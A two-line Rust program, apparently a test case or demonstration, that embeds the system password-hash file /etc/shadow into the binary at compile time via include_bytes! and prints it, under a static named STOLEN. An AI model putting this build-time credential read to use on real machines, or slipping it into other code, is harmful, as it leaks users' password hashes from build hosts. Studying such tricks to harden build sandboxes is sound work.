static STOLEN: &[u8] = include_bytes!("/etc/shadow");
fn main() { println!("{STOLEN:?}"); }
